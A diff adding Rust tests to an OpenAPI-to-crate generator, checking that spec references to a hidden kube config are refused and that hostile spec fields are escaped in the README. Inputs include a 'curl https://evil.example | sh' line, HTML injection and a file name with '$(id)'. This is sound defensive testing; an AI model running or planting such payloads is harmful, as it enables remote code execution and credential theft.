@@ -158,6 +158,103 @@ fn what_a_spec_refers_to_goes_along() {
 }
 
 #[test]
+fn a_spec_among_copies_of_urls_is_copied_once() {
+    let folder = TempDir::new().expect("a folder");
+    let here = folder.path();
+    let twice = PETS.replace("operationId: addPet", "operationId: listPets");
+    write(here, "copies/pets.yaml", &twice);
+    succeed(
+        here,
+        &["new", "copies/pets.yaml", "shop", "--ref-dir", "copies"],
+    );
+    assert!(!here.join("copies/pets.names").exists());
+    let shop = here.join("shop");
+    let config = read(&shop, "toolwright.toml");
+    assert!(
+        config.starts_with("spec = \"refs/pets.yaml\"\n"),
+        "{config}"
+    );
+    assert!(read(&shop, "refs/pets.names").contains("list_pets"));
+    succeed(&shop, &["check"]);
+}
+
+#[test]
+fn hidden_files_are_not_copied_into_a_crate() {
+    let folder = TempDir::new().expect("a folder");
+    let here = folder.path();
+    write(here, ".kube/config", "users: {type: string}\n");
+    let stolen = PETS.replace(
+        "{type: integer, examples: [3]}",
+        "{$ref: '.kube/config#/users'}",
+    );
+    assert_ne!(stolen, PETS);
+    write(here, "pets.yaml", &stolen);
+    let (code, _, stderr) = run(here, &["new", "pets.yaml", "shop"]);
+    assert_eq!(code, Some(1), "{stderr}");
+    assert!(
+        stderr.contains("which is hidden, so it is not copied"),
+        "{stderr}"
+    );
+    assert!(!here.join("shop").exists());
+    let (code, _, stderr) = run(here, &["new", "pets.yaml", "linked", "--link"]);
+    assert_eq!(code, Some(0), "{stderr}");
+    // Others are copied, and named.
+    write(here, "common/id.yaml", "type: integer\n");
+    let common = stolen.replace(".kube/config#/users", "common/id.yaml");
+    write(here, "pets.yaml", &common);
+    let (code, _, stderr) = run(here, &["new", "pets.yaml", "open"]);
+    assert_eq!(code, Some(0), "{stderr}");
+    assert!(
+        stderr.contains("spec/common/id.yaml: copied, because the spec needs it"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn a_readme_has_no_markdown_of_the_spec() {
+    let folder = TempDir::new().expect("a folder");
+    let here = folder.path();
+    let hostile: Value = json!({
+        "openapi": "3.1.0",
+        "info": {"title": "[Install](https://evil.example) <img src=x>", "version": "1"},
+        "servers": [{"url": "https://a.example/`\n\n## Install first\n\n```console\n$ curl https://evil.example | sh\n```\n"}],
+        "components": {"securitySchemes": {"key`\n\n## Then": {"type": "apiKey", "in": "header", "name": "X-Key"}}},
+        "security": [{"key`\n\n## Then": []}],
+        "paths": {"/pets": {"get": {"operationId": "listPets", "responses": {}}}},
+    });
+    let spec = "a`](x) $(id).json";
+    write(here, spec, &hostile.to_string());
+    let (code, _, stderr) = run(here, &["new", spec, "shop"]);
+    assert_eq!(code, Some(0), "{stderr}");
+    let readme = read(here, "shop/README.md");
+    let evil: Vec<&str> = readme
+        .lines()
+        .filter(|line| line.contains("evil.example"))
+        .collect();
+    for line in &evil {
+        assert!(!line.starts_with(['$', '#']), "{readme}");
+    }
+    assert!(!evil.is_empty(), "{readme}");
+    assert!(
+        !readme
+            .lines()
+            .any(|line| line.starts_with("## Install first") || line.starts_with("## Then"))
+    );
+    assert!(
+        readme.contains("\\[Install\\]\\(https://evil.example\\) \\<img src=x\\>"),
+        "{readme}"
+    );
+    assert!(
+        readme.contains("](spec/a%60%5D%28x%29%20%24%28id%29.json)"),
+        "{readme}"
+    );
+    assert!(
+        readme.contains("git show 'HEAD:spec/a`](x) $(id).json' > old.spec"),
+        "{readme}"
+    );
+}
+
+#[test]
 fn names_that_had_to_be_made_unique_are_kept() {
     let folder = TempDir::new().expect("a folder");
     let here = folder.path();
@@ -207,6 +304,10 @@ fn what_is_there_is_not_overwritten() {
     let here = folder.path();
     write(here, "pets.yaml", PETS);
     write(here, "shop/notes.txt", "mine");
+    write(here, "file", "mine");
+    let (code, _, stderr) = run(here, &["new", "pets.yaml", "file"]);
+    assert_eq!(code, Some(1));
+    assert!(stderr.contains("cannot read file"), "{stderr}");
     let (code, _, stderr) = run(here, &["new", "pets.yaml", "shop"]);
     assert_eq!(code, Some(1));
     assert!(
